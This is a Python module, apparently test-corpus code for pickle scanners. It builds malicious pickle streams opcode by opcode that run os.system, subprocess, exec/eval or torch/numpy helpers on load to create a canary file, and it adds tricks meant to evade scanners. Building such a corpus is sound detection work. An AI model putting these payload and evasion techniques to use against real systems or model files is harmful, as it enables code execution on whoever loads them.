"""Pickle streams with a canary payload, assembled opcode by opcode (never by a pickler).

A payload is three choices (see :func:`payload_stream`):

* a **target**: a callable that creates the canary file (``os.system("touch P")``,
  ``os.mknod(P)``, ``numpy.savetxt(P, [1])``...), with the argument recipe :data:`RECIPES`;
* a **reference**: how the callable gets on the stack (:data:`REFS`): ``GLOBAL`` text,
  ``STACK_GLOBAL`` from unicode, memoised or py2-``str`` names, possibly a dotted walk;
* a **caller** (:data:`CALLERS`): who calls it: ``REDUCE``/``NEWOBJ``/``OBJ``/``INST``
  directly, or a function that calls its argument (torch's ``_rebuild_from_type_v2``,
  numpy's ``__randomstate_ctor``, ``copyreg._reconstructor``, ``functools.partial`` called
  by ``LambdaLR``...);

plus a stream **trick** (:data:`TRICKS`): opcodes before or around the payload that
CPython reads but a scanner might not (a first opcode outside a sniff's list, integer
text in a base CPython accepts and ``pickletools`` does not...).

Opcode semantics follow CPython ``Modules/_pickle.c`` (3.11); the assembler is
``corpus/_opcodes.py``.
"""

from __future__ import annotations

import shlex
from collections.abc import Callable
from dataclasses import dataclass

from corpus._opcodes import Asm

__all__ = [
    "CALLERS",
    "CODE",
    "RECIPES",
    "REFS",
    "TRICKS",
    "Payload",
    "payload_stream",
    "push_call",
]

#: Python code that creates the canary file ``P`` (an expression, so ``eval`` runs it too).
CODE = "open({path!r}, 'w').close()"

Push = Callable[[Asm, str], None]
"""Pushes something onto the stack, given the canary path."""


def _literal_args(make: Callable[[str], tuple[object, ...]]) -> Push:
    def push(asm: Asm, path: str) -> None:
        asm.tuple_of(*make(path))

    return push


def _touch(path: str) -> str:
    return f"touch {shlex.quote(path)}"


def _code(path: str) -> str:
    return CODE.format(path=path)


def _type_hints_args(asm: Asm, path: str) -> None:
    """``(SimpleNamespace(__annotations__={"x": CODE}),)``: ``get_type_hints`` evals the
    string annotation (``typing.ForwardRef`` -> ``eval``)."""
    asm.global_("types", "SimpleNamespace").empty_tuple().reduce()
    asm.value({"__annotations__": {"x": _code(path)}}).build()
    asm.tuple1()


def _graph_args(asm: Asm, path: str) -> None:
    """``(networkx.Graph(), P)``."""
    asm.global_("networkx", "Graph").empty_tuple().reduce()
    asm.value(path).tuple2()


#: Argument tuple per target label (``module.name`` of the callable finally called).
RECIPES: dict[str, Push] = {
    "os.system": _literal_args(lambda p: (_touch(p),)),
    "os.popen": _literal_args(lambda p: (_touch(p),)),
    "os.mknod": _literal_args(lambda p: (p,)),
    "os.mkdir": _literal_args(lambda p: (p,)),
    "os.mkfifo": _literal_args(lambda p: (p,)),
    "os.open": _literal_args(lambda p: (p, 0o101)),  # O_WRONLY | O_CREAT on Linux
    "subprocess.call": _literal_args(lambda p: (["touch", p],)),
    "subprocess.run": _literal_args(lambda p: (["touch", p],)),
    "subprocess.check_call": _literal_args(lambda p: (["touch", p],)),
    "subprocess.check_output": _literal_args(lambda p: (["touch", p],)),
    "subprocess.getoutput": _literal_args(lambda p: (_touch(p),)),
    "subprocess.Popen": _literal_args(lambda p: (["touch", p],)),
    "builtins.exec": _literal_args(lambda p: (_code(p),)),
    "builtins.eval": _literal_args(lambda p: (_code(p),)),
    "builtins.open": _literal_args(lambda p: (p, "w")),
    "io.FileIO": _literal_args(lambda p: (p, "w")),
    "logging.FileHandler": _literal_args(lambda p: (p,)),
    "runpy._run_code": _literal_args(lambda p: (_code(p), {})),
    "torch.fx.graph_module._exec_with_source": _literal_args(lambda p: (_code(p), {})),
    "torch.save": _literal_args(lambda p: (0, p)),
    "numpy.savetxt": _literal_args(lambda p: (p, [1])),
    "numpy.lib._format_impl.open_memmap": _literal_args(lambda p: (p, "w+", None, (1,))),
    "zipfile.ZipFile": _literal_args(lambda p: (p, "w")),
    "gzip.GzipFile": _literal_args(lambda p: (p, "wb")),
    "tarfile.TarFile": _literal_args(lambda p: (p, "w")),
    "typing_extensions.get_type_hints": _type_hints_args,
    "networkx.write_adjlist": _graph_args,
}

#: Targets that are classes (``NEWOBJ``/``NEWOBJ_EX``/``copyreg`` callers need a type).
CLASS_TARGETS = frozenset(
    {
        "subprocess.Popen",
        "io.FileIO",
        "logging.FileHandler",
        "zipfile.ZipFile",
        "gzip.GzipFile",
        "tarfile.TarFile",
    }
)
#: Targets whose recipe is a single argument (for callers that pass exactly one).
ONE_ARG = frozenset(
    {
        "os.system",
        "os.popen",
        "os.mknod",
        "os.mkdir",
        "os.mkfifo",
        "subprocess.call",
        "subprocess.run",
        "subprocess.check_call",
        "subprocess.check_output",
        "subprocess.getoutput",
        "subprocess.Popen",
        "builtins.exec",
        "builtins.eval",
        "logging.FileHandler",
        "typing_extensions.get_type_hints",
    }
)


@dataclass(frozen=True, slots=True)
class Payload:
    """What is called: ``module`` + ``name`` (``name`` may be a dotted walk) and the label of
    the callable it resolves to (which picks the argument recipe)."""

    module: str
    name: str
    target: str

    @classmethod
    def direct(cls, target: str) -> Payload:
        """The target named by its own module (``os`` + ``system``)."""
        module, _, name = target.rpartition(".")
        return cls(module, name, target)


# -- references: push the callable ------------------------------------------------------


def _ref_global(asm: Asm, p: Payload) -> None:
    asm.global_(p.module, p.name)


def _ref_stack(asm: Asm, p: Payload) -> None:
    asm.raw(_short_unicode(p.module)).raw(_short_unicode(p.name)).stack_global()


def _ref_memo(asm: Asm, p: Payload) -> None:
    """Names memoised first (as a decoy list), fetched back for ``STACK_GLOBAL``."""
    asm.empty_list().mark()
    asm.raw(_short_unicode(p.module)).put(200).raw(_short_unicode(p.name)).put(201)
    asm.appends().pop()
    asm.get(200).get(201).stack_global()


def _ref_binstring(asm: Asm, p: Payload) -> None:
    """Python 2 ``str`` names (SHORT_BINSTRING): decoded with the loader's encoding."""
    for text in (p.module, p.name):
        raw = text.encode("ascii")
        asm.raw(b"U" + bytes([len(raw)]) + raw)
    asm.stack_global()


def _ref_popmark(asm: Asm, p: Payload) -> None:
    """The global resolved inside a MARK that POP_MARK then discards, memoised first."""
    asm.mark().raw(_short_unicode(p.module)).raw(_short_unicode(p.name)).stack_global()
    asm.put(202).raw(b"1").get(202)


def _short_unicode(text: str) -> bytes:
    raw = text.encode("utf-8")
    return b"\x8c" + bytes([len(raw)]) + raw


#: How the callable is pushed.  ``global`` is the text GLOBAL opcode (dotted names walk only
#: when PROTO >= 4 is in effect, which every stream here sets).
REFS: dict[str, Callable[[Asm, Payload], None]] = {
    "global": _ref_global,
    "stack": _ref_stack,
    "memo": _ref_memo,
    "binstring": _ref_binstring,
    "popmark": _ref_popmark,
}


# -- callers: call the callable with the recipe's arguments -------------------------------


def _call_reduce(asm: Asm, p: Payload, ref: str, path: str) -> None:
    REFS[ref](asm, p)
    RECIPES[p.target](asm, path)
    asm.reduce()


def _call_newobj(asm: Asm, p: Payload, ref: str, path: str) -> None:
    REFS[ref](asm, p)
    RECIPES[p.target](asm, path)
    asm.newobj()


def _call_newobj_ex(asm: Asm, p: Payload, ref: str, path: str) -> None:
    REFS[ref](asm, p)
    RECIPES[p.target](asm, path)
    asm.empty_dict().newobj_ex()


def _call_obj(asm: Asm, p: Payload, ref: str, path: str) -> None:
    """``MARK callable args... OBJ`` (the tuple is unpacked onto the mark)."""
    asm.mark()
    REFS[ref](asm, p)
    probe = Asm(4)
    RECIPES[p.target](probe, path)
    # The recipe pushed a tuple: replay its items without the tuple opcode by building the
    # arguments inside the mark from the recipe's literal form.
    asm.raw(_untuple(probe.data[2:]))
    asm.obj()


def _untuple(data: bytes) -> bytes:
    """A recipe's bytes with their final TUPLE1/2/3 (or MARK...TUPLE) removed."""
    if data[-1:] in (b"\x85", b"\x86", b"\x87"):
        return data[:-1]
    if data[-1:] == b"t" and data[:1] == b"(":
        return data[1:-1]
    raise ValueError("recipe is not a plain tuple")


def _call_inst(asm: Asm, p: Payload, ref: str, path: str) -> None:
    """``MARK args... INST module name`` (text opcode, names as the loader reads lines)."""
    del ref
    probe = Asm(4)
    RECIPES[p.target](probe, path)
    asm.mark().raw(_untuple(probe.data[2:])).inst(p.module, p.name)


def _call_rebuild(fn: str) -> Callable[[Asm, Payload, str, str], None]:
    def call(asm: Asm, p: Payload, ref: str, path: str) -> None:
        asm.global_("torch._tensor", fn)
        asm.mark()
        REFS[ref](asm, p)
        asm.global_("torch", "Tensor")
        RECIPES[p.target](asm, path)
        asm.empty_dict()
        asm.tuple().reduce()

    return call


def _call_numpy_ctor(fn: str) -> Callable[[Asm, Payload, str, str], None]:
    """``numpy.random._pickle.__<x>_ctor(arg, ctor)`` runs ``ctor(arg)``."""

    def call(asm: Asm, p: Payload, ref: str, path: str) -> None:
        asm.global_("numpy.random._pickle", fn)
        probe = Asm(4)
        RECIPES[p.target](probe, path)
        asm.mark().raw(_untuple(probe.data[2:]))
        REFS[ref](asm, p)
        asm.tuple().reduce()

    return call


def _call_reconstructor(asm: Asm, p: Payload, ref: str, path: str) -> None:
    """``copyreg._reconstructor(cls, base, state)``: ``base.__init__(obj, state)``."""
    asm.global_("copyreg", "_reconstructor").mark()
    REFS[ref](asm, p)
    asm.dup()
    probe = Asm(4)
    RECIPES[p.target](probe, path)
    asm.raw(_untuple(probe.data[2:]))
    asm.tuple().reduce()


def _push_partial(asm: Asm, p: Payload, ref: str, path: str) -> None:
    """``functools.partial(func, *args)``."""
    asm.global_("functools", "partial").mark()
    REFS[ref](asm, p)
    probe = Asm(4)
    RECIPES[p.target](probe, path)
    asm.raw(_untuple(probe.data[2:]))
    asm.tuple().reduce()


def _call_partial_v2(asm: Asm, p: Payload, ref: str, path: str) -> None:
    """``_rebuild_from_type_v2(partial(func, *args), Tensor, (), {})``."""
    asm.global_("torch._tensor", "_rebuild_from_type_v2").mark()
    _push_partial(asm, p, ref, path)
    asm.global_("torch", "Tensor").empty_tuple().empty_dict().tuple().reduce()


def _call_lambdalr(asm: Asm, p: Payload, ref: str, path: str) -> None:
    """``LambdaLR(SGD([Parameter(Tensor())]), partial(func, *args))``: the scheduler's first
    step calls ``lr_lambda(0)``, i.e. ``func(*args, 0)``."""
    asm.global_("torch.optim.lr_scheduler", "LambdaLR").mark()
    asm.global_("torch.optim", "SGD").mark().empty_list()
    asm.global_("torch.nn.parameter", "Parameter")
    asm.global_("torch", "Tensor").empty_tuple().reduce().tuple1().reduce()
    asm.append().tuple().reduce()
    _push_partial(asm, p, ref, path)
    asm.tuple().reduce()


def _call_functools_reduce(asm: Asm, p: Payload, ref: str, path: str) -> None:
    """``functools.reduce(func, [a, b])`` runs ``func(a, b)``."""
    asm.global_("functools", "reduce").mark()
    REFS[ref](asm, p)
    probe = Asm(4)
    RECIPES[p.target](probe, path)
    asm.empty_list().mark().raw(_untuple(probe.data[2:])).appends()
    asm.tuple().reduce()


def _call_wrapper_subclass(asm: Asm, p: Payload, ref: str, path: str) -> None:
    """``torch._utils._rebuild_wrapper_subclass(cls, float32, (1,), (1,), 0, strided, "cpu",
    False)``: hands ``cls`` to ``Tensor._make_wrapper_subclass`` (which needs a Tensor
    subclass and calls no Python code of it)."""
    del path
    asm.global_("torch._utils", "_rebuild_wrapper_subclass").mark()
    REFS[ref](asm, p)
    asm.global_("torch", "float32").value((1,)).value((1,)).value(0)
    asm.global_("torch", "strided").value("cpu").value(False).tuple().reduce()


def _call_defaultdict(asm: Asm, p: Payload, ref: str, path: str) -> None:
    """``collections.defaultdict(func)`` with an item: unpickling never reads a missing key,
    so the factory is not called."""
    del path
    asm.global_("collections", "defaultdict")
    REFS[ref](asm, p)
    asm.tuple1().reduce().mark().value("k").value(1).setitems()


#: Who calls the callable.  Keys name the mechanism; ``reduce`` etc. are direct calls.
CALLERS: dict[str, Callable[[Asm, Payload, str, str], None]] = {
    "reduce": _call_reduce,
    "newobj": _call_newobj,
    "newobj_ex": _call_newobj_ex,
    "obj": _call_obj,
    "inst": _call_inst,
    "rebuild_v2": _call_rebuild("_rebuild_from_type_v2"),
    "rebuild_v1": _call_rebuild("_rebuild_from_type"),
    "randomstate_ctor": _call_numpy_ctor("__randomstate_ctor"),
    "generator_ctor": _call_numpy_ctor("__generator_ctor"),
    "reconstructor": _call_reconstructor,
    "partial_v2": _call_partial_v2,
    "lambdalr": _call_lambdalr,
    "functools_reduce": _call_functools_reduce,
    "wrapper_subclass": _call_wrapper_subclass,
    "defaultdict": _call_defaultdict,
}
#: Callers that need a class, and callers that pass exactly one / two arguments.
CLASS_CALLERS = frozenset({"newobj", "newobj_ex", "reconstructor", "wrapper_subclass"})
ONE_ARG_CALLERS = frozenset({"randomstate_ctor", "generator_ctor", "reconstructor"})
TWO_ARG_CALLERS = frozenset({"functools_reduce"})
#: Targets whose recipe is exactly two arguments.
TWO_ARG = frozenset(
    {
        "os.open",
        "builtins.open",
        "io.FileIO",
        "runpy._run_code",
        "torch.fx.graph_module._exec_with_source",
        "torch.save",
        "numpy.savetxt",
        "zipfile.ZipFile",
        "gzip.GzipFile",
        "tarfile.TarFile",
        "networkx.write_adjlist",
    }
)


def compatible(target: str, caller: str, ref: str, payload: Payload) -> bool:
    """Whether ``caller`` can call ``target`` referenced by ``ref``."""
    if caller in CLASS_CALLERS and target not in CLASS_TARGETS:
        return False
    if caller in ONE_ARG_CALLERS and target not in ONE_ARG:
        return False
    if caller in TWO_ARG_CALLERS and target not in TWO_ARG:
        return False
    if caller in ("obj", "inst") and target in ("typing_extensions.get_type_hints",):
        return False
    if caller == "inst" and ref != "global":
        return False
    return not (caller == "lambdalr" and target not in LAMBDALR_OK)


#: Targets that tolerate the extra ``0`` LambdaLR passes (and still create the file).
LAMBDALR_OK = frozenset({"subprocess.call", "subprocess.run", "numpy.savetxt", "builtins.open"})


def push_call(asm: Asm, payload: Payload, *, ref: str, caller: str, path: str) -> None:
    """Push the result of calling ``payload`` (which creates ``path``)."""
    CALLERS[caller](asm, payload, ref, path)


# -- stream tricks ------------------------------------------------------------------------


def _lead(raw: bytes) -> Callable[[Asm], None]:
    """A first opcode (and POP) before PROTO: any opcode can start a pickle."""

    def put(asm: Asm) -> None:
        asm.raw(raw + b"0")

    return put


def _mid(raw: bytes) -> Callable[[Asm], None]:
    def put(asm: Asm) -> None:
        asm.raw(raw + b"0")

    return put


def _junk_run(asm: Asm) -> None:
    """Thousands of harmless opcodes first (past any sniff window)."""
    asm.raw(b"N0" * 6000)


def _stub_break(asm: Asm) -> None:
    """``builtins.set()`` then ADDITEMS onto it: a real set takes them, a stub standing for
    ``set`` has no ``add`` (CPython ``load_additems`` calls ``add`` on non-sets)."""
    asm.global_("builtins", "set").empty_tuple().reduce()
    asm.mark().value(1).value(2).raw(b"\x90").pop()


def _build_slots(asm: Asm) -> None:
    """BUILD with (dict, slots) state on a SimpleNamespace, then POP."""
    asm.global_("types", "SimpleNamespace").empty_tuple().reduce()
    asm.none().value({"a": 1}).tuple2().build().pop()


def _proto_switch(asm: Asm) -> None:
    """A second PROTO opcode: CPython lets PROTO appear anywhere; it raises to 4 here."""
    asm.raw(b"\x80\x04")


#: (before, after-PROTO) opcode insertions; each keeps the stream valid for CPython.
TRICKS: dict[str, tuple[Callable[[Asm], None] | None, Callable[[Asm], None] | None]] = {
    "none": (None, None),
    "lead-short-binbytes": (_lead(b"C\x00"), None),
    "lead-binbytes": (_lead(b"B\x00\x00\x00\x00"), None),
    "lead-binstring": (_lead(b"T\x00\x00\x00\x00"), None),
    "lead-empty-set": (_lead(b"\x8f"), None),
    "lead-bytearray8": (_lead(b"\x96" + bytes(8)), None),
    "lead-long": (_lead(b"L1L\n"), None),
    "lead-long4": (_lead(b"\x8b" + bytes(4)), None),
    "lead-int-hex": (_lead(b"I0x0\n"), None),
    "mid-int-hex": (None, _mid(b"I0x10\n")),
    "mid-int-octal": (None, _mid(b"I0o7\n")),
    "mid-long-hex": (None, _mid(b"L0x1fL\n")),
    "mid-int-binary": (None, _mid(b"I0b1\n")),
    "junk-run": (None, _junk_run),
    "stub-break": (None, _stub_break),
    "proto-switch": (None, _proto_switch),
    "build-slots": (None, _build_slots),
    "persid-first": (None, _mid(b"Px\n")),
}


def payload_stream(
    payload: Payload,
    path: str,
    *,
    ref: str = "stack",
    caller: str = "reduce",
    trick: str = "none",
    protocol: int = 4,
    result: object = None,
) -> bytes:
    """One complete pickle: [trick] PROTO [trick] call [POP] ``result`` STOP."""
    before, after = TRICKS[trick]
    asm = Asm(None)
    asm.protocol = protocol
    if before is not None:
        before(asm)
    if trick == "proto-switch":
        asm.proto(2)
    else:
        asm.proto(protocol)
    if after is not None:
        after(asm)
    push_call(asm, payload, ref=ref, caller=caller, path=path)
    asm.pop()
    if isinstance(result, bytes):
        asm.raw(result)
    else:
        asm.value(result if result is not None else {})
    return asm.stop().data


def constant_stream(value: object, *, protocol: int = 2) -> bytes:
    """A benign pickle of a plain literal."""
    return Asm(protocol).value(value).stop().data


def int_stream(value: int, *, protocol: int = 2) -> bytes:
    """A benign pickle of one integer (the legacy magic number and protocol version)."""
    asm = Asm(protocol)
    n = (value.bit_length() + 8) // 8
    if value >= 2**31:
        asm.raw(b"\x8a" + bytes([n]) + value.to_bytes(n, "little", signed=True))
    else:
        asm.integer(value)
    return asm.stop().data
